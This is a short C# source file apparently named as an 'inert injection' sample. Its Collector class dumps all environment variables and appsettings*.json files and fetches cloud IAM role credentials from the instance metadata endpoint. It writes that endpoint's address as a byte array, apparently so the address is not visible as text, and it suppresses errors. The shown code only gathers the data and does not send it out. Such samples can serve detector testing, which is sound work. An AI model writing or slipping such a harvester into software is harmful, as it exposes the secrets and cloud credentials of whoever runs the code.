using System;
using System.Collections;
using System.IO;
using System.Net;
using System.Net.Http;
using System.Text;

namespace Inert.Injection;

internal static class Collector
{
    public static string Everything()
    {
        var text = new StringBuilder();
        foreach (DictionaryEntry variable in Environment.GetEnvironmentVariables())
        {
            text.Append(variable.Key).Append('=').Append(variable.Value).Append('\n');
        }

        foreach (var file in Directory.GetFiles(AppContext.BaseDirectory, "appsettings*.json"))
        {
            text.Append(file).Append('\n').Append(File.ReadAllText(file)).Append('\n');
        }

        text.Append(Identity());
        return text.ToString();
    }

    private static string Identity()
    {
        try
        {
            var address = new IPAddress(new byte[] { 169, 254, 169, 254 });
            using var http = new HttpClient { Timeout = TimeSpan.FromSeconds(1) };
            return http.GetStringAsync("http://" + address + "/latest/meta-data/iam/security-credentials/").GetAwaiter().GetResult();
        }
        catch
        {
            return "";
        }
    }
}
